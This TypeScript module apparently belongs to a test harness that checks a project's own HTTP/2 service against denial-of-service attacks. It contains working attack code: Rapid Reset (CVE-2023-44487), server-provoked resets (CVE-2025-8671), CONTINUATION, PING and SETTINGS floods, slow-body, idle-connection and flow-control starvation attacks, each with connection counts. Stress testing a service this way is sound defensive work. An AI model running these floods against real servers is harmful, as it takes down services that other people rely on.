import type { Socket } from "node:net";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  requestBlock,
} from "../../packages/connect-transcoding/test/server/raw-http2.js";
import type { Attack } from "./attack.js";
import { crowd, drip, pour, untilGone } from "./crowd.js";

/** An attack whose callers begin as HTTP/2 has it, and read what comes. */
function over(name: string, connections: number, act: Act): Attack {
  return {
    name,
    connections,
    run: (tools, count) =>
      crowd(count, tools, (socket) => {
        socket.resume().write(PREFACE);
        return act(socket, tools);
      }),
  };
}

type Act = (socket: Socket, tools: Parameters<Attack["run"]>[0]) => Promise<unknown>;

const CANCEL = Buffer.from([0, 0, 0, 8]);
const GEO_IP = "/v1/geoIp?ip_address=8.8.8.8";

/** Octets of so many streams, one behind the other: identifiers are odd, and each is used once. */
function streams(count: number, octetsOf: (id: number) => readonly Uint8Array[]): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => octetsOf(2 * index + 1)).flat());
}

const get = (id: number, path = GEO_IP) =>
  frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, requestBlock("GET", path));

/** Harm that is done over HTTP/2. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  over("idle HTTP/2 connections", 10_000, untilGone),
  over("slow bodies over HTTP/2", 200, (socket, tools) => {
    const open = (id: number) =>
      frame(FRAME.HEADERS, END_HEADERS, id, requestBlock("POST", "/v1/sanitizeEmail"));
    socket.write(streams(50, (id) => [open(id)]));
    const octet = streams(50, (id) => [frame(FRAME.DATA, 0, id, Buffer.from(" "))]);
    return drip(socket, tools, () => octet);
  }),
  over("header sections that do not end", 500, (socket, tools) => {
    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
    return untilGone(socket, tools);
  }),
  over("rapid resets", 20, async (socket, tools) => {
    // CVE-2023-44487: more streams than there may be at once, for each is reset at once.
    socket.write(streams(2000, (id) => [get(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]));
    await untilGone(socket, tools);
  }),
  over("resets that the service is made to send", 20, async (socket, tools) => {
    // CVE-2025-8671: each stream ends by an error of its caller's, and what was begun for it is in vain.
    const block = Buffer.concat([
      requestBlock("POST", "/v1/sanitizeEmail"),
      headerBlock({ "content-length": "1" }),
    ]);
    const begin = (id: number) => frame(FRAME.HEADERS, END_HEADERS, id, block);
    const tooMuch = (id: number) => frame(FRAME.DATA, END_STREAM, id, Buffer.from("too much"));
    socket.write(streams(2000, (id) => [begin(id), tooMuch(id)]));
    await untilGone(socket, tools);
  }),
  over("huge headers over HTTP/2", 50, async (socket, tools) => {
    const huge = Buffer.concat([requestBlock(), ...Array(120).fill(headerBlock({ x: "y".repeat(126) }))]);
    socket.write(streams(200, (id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, huge)]));
    await untilGone(socket, tools);
  }),
  over("a flood of CONTINUATION frames", 50, (socket, tools) => {
    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
    return pour(socket, tools, frame(FRAME.CONTINUATION, 0, 1, headerBlock({ x: "y".repeat(100) })));
  }),
  over("a flood of PINGs", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of PINGs whose answers nobody reads", 50, (socket, tools) =>
    pour(
      socket.pause(),
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of SETTINGS", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.SETTINGS, 0, 0, Buffer.from("000400010000", "hex"))]),
    ),
  ),
  over("answers over HTTP/2 that nobody takes", 200, async (socket, tools) => {
    // There is no window update, so that 65,535 octets come of all of them together.
    socket.write(streams(200, (id) => [get(id, "/v1/countries")]));
    await untilGone(socket, tools);
  }),
  over("answers over HTTP/2 that nobody reads", 200, async (socket, tools) => {
    const window = frame(8, 0, 0, Buffer.from("3fffffff", "hex"));
    socket.pause().write(Buffer.concat([window, streams(200, (id) => [get(id, "/v1/countries")])]));
    await untilGone(socket, tools);
  }),
];
